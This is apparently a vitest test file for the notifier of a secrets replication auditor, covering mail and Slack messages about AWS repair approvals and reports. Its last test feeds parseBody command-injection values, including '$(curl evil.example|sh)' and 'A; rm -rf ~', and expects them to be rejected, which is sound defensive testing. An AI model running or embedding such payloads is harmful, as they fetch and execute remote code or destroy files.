import { describe, expect, it, test } from 'vitest';
import { approvalDetails, reportDetails } from '../../lib/aws/report-detail.ts';
import { renderMail } from '../../lib/notify/mail.ts';
import { repairMessagesFor } from '../../lib/notify/messages.ts';
import { parseBody, toldDetailTypes } from '../../lib/notify/records.ts';
import type { ApprovalNews, RepairsNews } from '../../lib/notify/repair-news.ts';
import { renderSlack } from '../../lib/notify/slack.ts';
import type { RepairsReported } from '../../lib/remediation/repairs-reported.ts';
import { anApproval, anOverwrite, aRefusal, aReport, aReportedRepair } from '../support/a-report.ts';
import { answered, longApproval, mixedApproval, mixedReport, placed, stoppedReport } from './repair-samples.ts';

const samples: Readonly<Record<string, { approval?: ApprovalNews; report?: RepairsNews }>> = {
  approval: { approval: mixedApproval() },
  'long-approval': { approval: longApproval() },
  repairs: { report: mixedReport() },
  'repairs-stopped': { report: stoppedReport() },
  'repairs-rejected': { report: answered({}) },
};

const list = <T>(one: T | undefined) => (one === undefined ? [] : [one]);

describe.each(Object.entries(samples))('%s', (name, { approval, report }) => {
  const messages = repairMessagesFor(list(approval), list(report));

  it('reads well as a mail', async () => {
    const mails = messages.map(renderMail).map(({ subject, text }) => `Subject: ${subject}\n\n${text}`);
    await expect(mails.join('\n')).toMatchFileSnapshot(`snapshots/${name}.mail.txt`);
  });

  it('reads well in Slack', async () => {
    const posted = messages.map(renderSlack);
    await expect(`${JSON.stringify(posted[0], null, 2)}\n`).toMatchFileSnapshot(`snapshots/${name}.slack.json`);
  });
});

/** The message without the breaks of its wrapped lines. */
function mailOf(report: RepairsReported): string {
  const [message] = repairMessagesFor([], [report]);
  return message ? renderMail(message).text.replace(/\s+/g, ' ') : '';
}

test('the commands to answer stand in one piece, with the callback, the hash and the Region of the service', () => {
  const { callbackId, plan } = anApproval();
  const [message] = repairMessagesFor([anApproval()], []);
  const rest = `--callback ${callbackId} --plan-hash ${plan.hash} --function-region eu-central-1`;
  if (!message) return expect.fail();

  for (const command of [`replication-auditor approve ${rest}`, `replication-auditor reject ${rest}`]) {
    expect(renderMail(message).text).toContain(`\n  ${command}\n`);
    expect(JSON.stringify(renderSlack(message))).toContain(`\`${command}\``);
  }
});

test('every repair that would destroy something is in words or counted', () => {
  const actions = Array.from({ length: 25 }, (_, index) => anOverwrite({ secret: placed(`victim-${index}.`) }));
  const [message] = repairMessagesFor([{ ...anApproval({ actions }), moreActions: 9, moreDestructive: 5 }], []);
  const text = message ? renderMail(message).text : '';

  expect(message).toMatchObject({ severity: 'critical', title: expect.stringContaining('30 destructive') });
  expect(actions.filter(({ secret }) => text.includes(`secret ${secret.name} in`)).length).toBe(20);
  expect(text).toContain('and 10 more that would destroy something');
});

test.each<[string, Partial<NonNullable<RepairsReported['approval']>>, string, string | null]>([
  ['REPAIRS REJECTED', {}, 'bob rejected 3 repairs (1 would have destroyed something). None of them was made', null],
  ['APPROVAL EXPIRED', { kind: 'expired', by: null }, 'Nobody answered in time about 3 repairs', 'high'],
  ['APPROVAL VOID', { kind: 'invalid', by: null, reason: 'Not on the list.' }, 'because: Not on the list.', 'high'],
  ['NOT REPAIRED', { kind: 'approved' }, 'another run was writing for so long', 'high'],
])('a question that ends as %s is told with its reason', (label, approval, words, severity) => {
  const report = answered(approval);

  expect(repairMessagesFor([], [report])).toMatchObject([{ label, severity, tells: [report.id] }]);
  expect(mailOf(report)).toContain(words);
});

test.each<[string, RepairsReported, string, string | null]>([
  ['all that worked', aReport({ repairs: [aReportedRepair()] }), 'REPAIRED', null],
  ['what failed', aReport({ repairs: [aReportedRepair({ state: 'failed' })] }), 'REPAIRS FAILED', 'high'],
  [
    'what may be lost and not repaired',
    aReport({ repairs: [aReportedRepair({ kind: 'overwrite', state: 'unknown', destroys: { arn: 'x' } })] }),
    'REPAIRS FAILED',
    'critical',
  ],
  ['what AWS refused', aReport({ repairs: [aReportedRepair({ state: 'refused' })] }), 'REPAIRS FAILED', 'high'],
  ['a shut gate', aReport({ refusals: [aRefusal()] }), 'NOT REPAIRED', 'medium'],
  ['nothing but what is off', aReport({ refusals: [aRefusal({ off: true })] }), 'NOT REPAIRED', null],
])('%s calls for somebody as it should', (_case, report, label, severity) => {
  expect(repairMessagesFor([], [report])).toMatchObject([{ label, severity }]);
});

test('what destroyed something is listed however much else was done', () => {
  const repairs = [
    ...Array.from({ length: 60 }, () => aReportedRepair({ state: 'failed' })),
    aReportedRepair({ kind: 'overwrite', secret: placed('gone'), destroys: { arn: 'the-victim' } }),
  ];
  expect(mailOf(aReport({ repairs }))).toMatch(/Destroyed for good: arn: the-victim/);
});

test('what AWS refused destroyed nothing, and the message does not say so', () => {
  const repair = aReportedRepair({ kind: 'overwrite', state: 'refused', destroys: { arn: 'the-victim' } });
  expect(mailOf(aReport({ repairs: [repair] }))).not.toContain('estroyed');
});

const bodyOf = (type: string, detail: unknown) =>
  JSON.stringify({ 'detail-type': type, source: 'secrets-replication-auditor', detail });

test('every form in which they are published is understood, the shortest included', () => {
  const approvals = approvalDetails(longApproval()).map((detail) => parseBody(bodyOf('Approval Requested', detail())));
  const reports = reportDetails(mixedReport()).map((detail) => parseBody(bodyOf('Repairs Reported', detail())));

  expect(new Set(approvals.map(({ kind }) => kind))).toEqual(new Set(['approval']));
  expect(approvals.at(-1)).toMatchObject({ news: { moreActions: 299, moreDestructive: 39 } });
  expect(new Set(reports.map(({ kind }) => kind))).toEqual(new Set(['repairs']));
});

test('repairs one by one are for tools: people are told of the report', () => {
  expect(toldDetailTypes).not.toContain('Repair Attempted');
  expect(() => parseBody(bodyOf('Repair Ended', {}))).toThrow(/is no event of the auditor/);
});

test.each([
  ['callbackId', { callbackId: '$(curl evil.example|sh)' }],
  ['callbackId', { callbackId: 'A; rm -rf ~' }],
  ['hash', { plan: { ...anApproval().plan, hash: '`id`' } }],
])('a %s that a shell would obey makes no command: %j', (key, part) => {
  expect(() => parseBody(bodyOf('Approval Requested', { ...anApproval(), ...part }))).toThrow(key);
});
